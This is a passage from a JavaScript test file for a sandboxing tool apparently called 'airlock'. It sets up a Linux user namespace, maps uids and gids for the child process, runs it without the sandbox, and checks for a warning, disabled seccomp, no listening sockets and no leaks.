      `while [ -z "$(cat /proc/self/uid_map)" ]; do sleep 0.05; done
       "$0" -e "require('fs').writeFileSync('/proc/sys/user/max_user_namespaces', '0', { flag: 'r+' })" || exit 97
       exec ${NOBODY.join(' ')} --no-new-privs "$@"`,
      process.execPath,
    ];
    const b = 'sleepy.airlock';
    const live = airlockLive(runArgs(b, 'out-nosandbox', how.table), { ...how, as: jail });
    // Map uids and gids 0-65535 as they are, once unshare has made the namespace.
    const own = readlinkSafe('/proc/self/ns/user');
    for (let i = 0; readlinkSafe(`/proc/${live.pid}/ns/user`) === own && i < 500; i++)
      await new Promise((r) => setTimeout(r, 10));
    writeFileSync(`/proc/${live.pid}/uid_map`, '0 0 65536');
    writeFileSync(`/proc/${live.pid}/gid_map`, '0 0 65536');
    const { r, sockets, leaks, seen } = await watchRun(live, b);
    expect(r.stderr).toContain(NONE_WARNING);
    for (const x of seen) expect(x).toMatchObject({ seccomp: 0, noSandboxFlag: true });
    expectNothingListening(sockets, 65534);
    expect(leaks).toEqual([]);
  });
});
